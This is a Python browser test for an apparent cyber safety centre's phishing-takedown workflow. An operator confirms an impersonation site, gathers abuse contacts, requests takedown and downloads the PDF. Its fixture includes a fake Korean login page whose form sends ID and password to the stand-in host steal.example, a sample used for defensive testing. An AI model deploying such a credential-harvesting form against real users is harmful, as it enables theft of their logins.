"""An operator of the joint cyber safety centre takes a case from alert to verified takedown
in the browser, on a phone (360 px), and downloads the takedown request (PDF)."""

from __future__ import annotations

from pathlib import Path

from playwright.sync_api import Browser, expect
from sqlalchemy import Engine, select

from insa.cyber import cases
from insa.cyber.assets import load
from insa.cyber.models import CyberCase
from insa.cyber.pages import Fetched
from insa.cyber.signals import prepare, score
from insa.db.engine import session_scope
from insa.security.context import Ctx
from insa.security.users import create_user

from .conftest import PASSWORD, SHOTS
from .test_every_role_phone import LAYOUT

DATA = Path(__file__).resolve().parents[1] / "cyber" / "data"
CLONE = "<html><head><title>사이버국가고시센터</title></head><body><h1>로그인</h1><form action='http://steal.example/x'>" \
        "<input name=id><input type=password name=pw></form>" + "원서 접수 안내 " * 50 + "</body></html>"  # fmt: skip


def test_an_operator_takes_a_case_to_verified_takedown(
    server: str, browser: Browser, migrated: Engine
) -> None:
    found = load(DATA / "assets.yaml")
    prep = prepare(found)
    page_seen = Fetched(
        "gosi-kr.com",
        url="http://gosi-kr.com/",
        status=200,
        html=CLONE,
        headers={"server": "nginx"},
    )
    with session_scope(migrated) as db:
        create_user(Ctx.command_line(db), username="sec-phone", role="security_operator", password=PASSWORD,
                    centre_code="CYBER")  # fmt: skip
        cases.record(db, [score("gosi-kr.com", prep)], found, pages={"gosi-kr.com": page_seen})
        case_id = db.scalar(select(CyberCase.id))
    page = browser.new_page(
        viewport={"width": 360, "height": 780}, locale="ko-KR", accept_downloads=True
    )
    page.goto(f"{server}/login")
    page.get_by_label("아이디").fill("sec-phone")
    page.get_by_label("비밀번호").fill(PASSWORD)
    page.get_by_label("비밀번호").press("Enter")
    page.get_by_role("link", name="사칭 사이트").first.click()
    expect(page.get_by_test_id("cases")).to_contain_text("gosi-kr.com")
    page.get_by_role("link", name="gosi-kr.com").click()
    expect(page.get_by_test_id("status")).to_have_text("신규")
    page.get_by_role("button", name="사칭 확인").click()
    expect(page.get_by_test_id("flash")).to_contain_text("사칭으로 확인했습니다")
    # the host's abuse desk from the IP network's RDAP answer, pasted
    page.get_by_label("RDAP 응답(JSON) 또는 WHOIS 내용", exact=False).fill(
        (DATA / "registration" / "ip-rdap.json").read_text(encoding="utf-8")
    )
    page.get_by_role("button", name="신고 창구 채우기").click()
    expect(page.get_by_test_id("contacts")).to_contain_text("abuse@cloudflare.com")
    page.get_by_label("등록기관 신고 창구 (전자우편)").fill("abuse@registrar.example")
    page.get_by_role("button", name="차단 요청").click()
    expect(page.get_by_test_id("status")).to_have_text("차단 요청")
    href = page.get_by_test_id("mailto").get_attribute("href") or ""
    assert href.startswith("mailto:abuse@registrar.example,abuse@cloudflare.com?subject=")
    with page.expect_download() as got:
        page.get_by_test_id("pdf").click()
    pdf = Path(got.value.path())
    assert (
        pdf.read_bytes().startswith(b"%PDF")
        and got.value.suggested_filename == f"takedown-{case_id}.pdf"
    )
    page.get_by_role("button", name="차단 확인 (지금 다시 접속)").click()
    expect(page.get_by_test_id("status")).to_have_text("차단 확인")
    expect(page.get_by_test_id("timeline")).to_contain_text("차단 확인")
    layout = page.evaluate(LAYOUT)
    assert layout["page"] <= layout["vw"] + 1, layout
    page.screenshot(path=str(SHOTS / "cyber-case-360.png"), full_page=True)
